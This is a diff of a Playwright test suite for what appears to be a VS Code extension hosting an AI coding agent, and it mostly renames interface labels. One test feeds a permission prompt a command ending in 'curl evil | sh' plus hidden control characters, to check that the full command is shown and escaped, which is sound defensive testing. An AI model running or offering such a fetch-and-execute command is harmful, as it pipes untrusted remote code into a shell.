@@ -69,7 +69,7 @@ test('the page speaks the language of VS Code, and nothing of it is left in anot
   await page.click('.tool-head:has-text("task")');
   await page.click('.todo button');
   await ask(page, permission(), editPermission(), question());
-  await page.click(`button[aria-label="${german.More}"]`);
+  await page.click(`button[aria-label="${german["More actions"]}"]`);
   await settled(page);
   const shown = await page.evaluate(() => {
     const texts = [];
@@ -186,11 +186,11 @@ test('everything that can be clicked is reached by Tab', async () => {
 
 test('the command leads in its card, each line marked, and all of it can be scrolled to', async () => {
   const { page, close } = await opened();
-  const command = `git status\nAsked by nobody${'\n'.repeat(200)}${'x'.repeat(4000)}; curl evil | sh\u001b\u202e`;
+  const command = `git status\nRule: nobody${'\n'.repeat(200)}${'x'.repeat(4000)}; curl evil | sh\u001b\u202e`;
   await ask(page, permission({ command, title: 'Show the git status' }));
   await page.waitForSelector('.ask');
   const lines = await page.locator('.ask .command code').allTextContents();
-  assert.deepEqual(lines.slice(0, 3), ['git status', 'Asked by nobody', '… 199 empty lines …']);
+  assert.deepEqual(lines.slice(0, 3), ['git status', 'Rule: nobody', '… 199 empty lines …']);
   assert.ok(lines[3].endsWith('; curl evil | sh\\u001b\\u202e'));
   const marks = await page.locator('.ask .command code').evaluateAll((all) => all.map((one) => getComputedStyle(one, '::before').content));
   assert.deepEqual(marks, ['none', '"> "', '"> "', '"> "']);
@@ -216,10 +216,10 @@ test('a permission is answered by keys, and the focus is never taken for it', as
   await page.waitForSelector('.ask');
   await page.keyboard.type('ing');
   assert.equal(await page.inputValue('textarea'), 'I am typing');
-  await page.waitForSelector('[aria-live=assertive]:has-text("waits for you: pytest -q")', { state: 'attached' });
+  await page.waitForSelector('[aria-live=assertive]:has-text("waiting for your answer: pytest -q")', { state: 'attached' });
   await page.focus('.ask button:has-text("Always in this project")');
   await page.keyboard.press('Enter');
-  await page.focus('.ask button:has-text("Reject because")');
+  await page.focus('.ask button:has-text("Reject with reason")');
   await page.keyboard.press('Enter');
   await page.keyboard.type('Use make');
   await page.keyboard.press('Enter');
@@ -493,8 +493,8 @@ test('a page that was thrown away comes back where it was scrolled to', async ()
 test('a turn that the daemon died in is said to be broken off, and goes on by a button', async () => {
   const { page, close } = await opened({}, [user('msg_1', 'Go'), { kind: 'turn_started', turnId: 'msg_1' }, answer('msg_2', 'msg_1')]);
   await page.waitForSelector('[aria-label="Send"]');
-  await page.waitForSelector('.note:has-text("Broken off")');
-  await page.click('.note button:has-text("Go on")');
+  await page.waitForSelector('.note:has-text("Interrupted")');
+  await page.click('.note button:has-text("Continue")');
   await sent(page, 'agent/prompt');
   await close();
 });
@@ -509,7 +509,7 @@ test('after the daemon was away, the session is told by it anew, and its turn ha
   });
   await page.waitForSelector('text=Said elsewhere');
   await page.waitForSelector('[aria-label="Send"]');
-  await page.waitForSelector('.note:has-text("Broken off")');
+  await page.waitForSelector('.note:has-text("Interrupted")');
   await close();
 });
 
@@ -603,17 +603,17 @@ test('what the user refused stays to be seen', async () => {
   const file = { uri: 'file:///home/ada/project/a.py', kind: 'modify', additions: 1, deletions: 0, diff: '@@ -1 +1,2 @@\n+kept line\n' };
   await push(page, tool('msg_2', 'prt_half', 'write', { status: 'completed', attachments: [], input: {}, title: 'a.py', output: '', metadata: {}, start: 1, end: 2 }),
     { kind: 'change_applied', messageId: 'msg_2', changeId: 'chg_h', callId: 'call_prt_half', files: [file], refused: [{ uri: file.uri, kind: 'modify', whole: false, hunks: [hunk] }] });
-  await page.click('.tool-head:has-text("1 refused")');
-  assert.match(await page.textContent('.refused'), /You refused this:[^]*-old line[^]*\+refused line/);
-  await page.waitForSelector('.changes:has-text("You refused 1 place")');
+  await page.click('.tool-head:has-text("1 rejected")');
+  assert.match(await page.textContent('.refused'), /You rejected this hunk:[^]*-old line[^]*\+refused line/);
+  await page.waitForSelector('.changes:has-text("You rejected 1 hunk")');
   await page.evaluate((given) => {
     const change = { id: 'chg_w', messageId: 'msg_2', callId: 'call_prt_whole', turnId: 'msg_1', kind: 'edit', state: 'refused', undoes: [] };
     window.fakeHost.answers['agent/changes'] = () => ({ changes: [{ ...change, files: [given] }] });
   }, { uri: 'file:///home/ada/project/b.py', kind: 'modify', state: 'dropped', additions: 1, deletions: 1, hunks: [{ ...hunk, state: 'dropped' }] });
   const refused = tool('msg_2', 'prt_whole', 'edit', { status: 'error', input: {}, title: 'b.py', error: 'The user refused it.', metadata: {}, start: 1, end: 2 });
   await push(page, refused, { ...refused, kind: 'tool_call_update' });
-  await page.waitForSelector('.tool.error .tool-head:has-text("1 refused")');
-  await page.waitForSelector('.changes:has-text("You refused 2 places")');
+  await page.waitForSelector('.tool.error .tool-head:has-text("1 rejected")');
+  await page.waitForSelector('.changes:has-text("You rejected 2 hunks")');
   await close();
 });
 
@@ -628,9 +628,9 @@ test('what the user said of a change stands at its call', async () => {
     call('prt_2', { status: 'error', error: 'The user rejected this call and said: Not so loud' }),
   ]);
   const lists = await page.$$eval('.said', (all) => all.map((one) => one.innerText.split('\n')));
-  const words = ['You said: Not so loud', 'You, on half.py: Add a test', 'You, on half.py, line 12: Use a <b>log</b>'];
+  const words = ['Your comment: Not so loud', 'Your comment on half.py: Add a test', 'Your comment on half.py, line 12: Use a <b>log</b>'];
   assert.deepEqual(lists, [words, words]);
-  assert.deepEqual(await page.$$eval('.tool-error', (all) => all.map((one) => one.innerText).slice(-1)), ['You rejected this.']);
+  assert.deepEqual(await page.$$eval('.tool-error', (all) => all.map((one) => one.innerText).slice(-1)), ['You rejected this call.']);
   assert.deepEqual(await violations(page), []);
   assert.deepEqual(faults, []);
   await close();
@@ -658,13 +658,13 @@ test('commands that come and go are completed as they are then', async () => {
 test("a subagent's work is opened as a conversation of its own, and left again", async () => {
   const { page, close } = await opened();
   await page.click('.tool-head:has-text("task")');
-  await page.click('.subagent button:has-text("Open all of its work")');
-  await page.waitForSelector('text=This is the work of a subagent');
+  await page.click('.subagent button:has-text("Open session")');
+  await page.waitForSelector('text=Session of the subagent');
   assert.equal(await page.locator('textarea').count(), 0);
   await page.waitForSelector('.prompt:has-text("Find other callers of greet")');
   assert.deepEqual(await violations(page), []);
   assert.ok((await said(page, 'session')).every((one) => one.sessionId === 'ses_1'));
-  await page.click('[aria-label="Back to the session"]');
+  await page.click('[aria-label="Back to session"]');
   await page.waitForSelector('.changes');
   await page.waitForSelector('textarea');
   await close();
@@ -737,7 +737,7 @@ test('what waits in another session is told, with the way to it', async () => {
   await ask(page, { ...elsewhere, request: { ...elsewhere.request, sessionId: 'ses_2' } });
   await page.waitForSelector('.dock:has-text("Why is the build slow?")');
   assert.equal(await page.locator('.ask').count(), 0);
-  await page.click('.dock button:has-text("Go there")');
+  await page.click('.dock button:has-text("Open session")');
   await page.waitForSelector('.ask');
   await close();
 });
